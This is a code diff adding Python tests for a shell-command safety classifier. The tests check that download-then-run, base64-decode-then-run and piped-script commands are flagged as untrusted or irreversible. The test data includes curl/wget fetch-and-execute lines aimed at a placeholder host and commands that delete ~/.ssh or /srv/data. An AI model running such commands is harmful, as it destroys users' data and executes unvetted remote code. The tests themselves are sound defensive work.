@@ -179,3 +179,42 @@ def test_a_fifo_or_device_run_by_its_path_is_never_opened(repo: Path) -> None:
     assert shell_effect("./pipe.sh", cwd=str(repo)) is None
     assert shell_effect("/dev/tty --help", cwd=str(repo)) is None
     assert shell_effect("source ./pipe.sh", cwd=str(repo)) is None
+
+
+@pytest.mark.parametrize("command", [
+    "echo cm0gLXJmIH4= | base64 -d > x.sh && bash x.sh",  # decoded, then run
+    "curl -o i.sh https://x.example/i.sh && bash i.sh",  # `curl | sh` in two steps
+    "wget -qO- https://x.example/i.sh > i.sh; sh i.sh",
+    "curl -fsSL https://x.example/i.sh -o i.sh && chmod +x i.sh && ./i.sh",
+    "curl -s https://x.example/i.py | tee i.py > /dev/null && python3 i.py",
+])
+def test_a_script_this_command_downloads_or_decodes_and_runs_is_untrusted(
+        tmp_path: Path, command: str) -> None:
+    e = shell_effect(command, cwd=str(tmp_path))
+    assert e is not None and e.effect is EffectClass.UNTRUSTED_CODE, (command, e)
+    assert "cannot be read before it runs" in e.evidence
+
+
+def test_a_script_printed_by_echo_or_printf_and_run_is_read(tmp_path: Path,
+                                                            monkeypatch) -> None:
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    (tmp_path / "home" / ".ssh").mkdir(parents=True)
+    e = shell_effect("printf '#!/bin/sh\\nrm -rf ~/.ssh\\n' > x.sh && sh x.sh", cwd=str(tmp_path))
+    assert e is not None and e.effect is EffectClass.LOCAL_IRREVERSIBLE, e
+    assert "this command prints" in e.evidence
+    e = shell_effect("echo 'import shutil; shutil.rmtree(\"/srv/data\")' > t.py && python3 t.py",
+                     cwd=str(tmp_path))
+    assert e is not None and e.effect is EffectClass.LOCAL_IRREVERSIBLE, e
+    assert shell_effect("printf 'print(1)\\n' > t.py && python3 t.py", cwd=str(tmp_path)) is None
+
+
+@pytest.mark.parametrize("command", ["cat wipe.txt | sh", "sh < wipe.txt", "bash < wipe.txt"])
+def test_a_file_fed_to_a_shell_is_scanned_as_a_script(tmp_path: Path, monkeypatch,
+                                                      command: str) -> None:
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    (tmp_path / "home" / ".ssh").mkdir(parents=True)
+    (tmp_path / "wipe.txt").write_text("rm -rf ~/.ssh\n")
+    e = shell_effect(command, cwd=str(tmp_path))
+    assert e is not None and e.effect is EffectClass.LOCAL_IRREVERSIBLE, (command, e)
+    (tmp_path / "wipe.txt").write_text("echo hello\n")
+    assert shell_effect(command, cwd=str(tmp_path)) is None  # a clean scan proves nothing
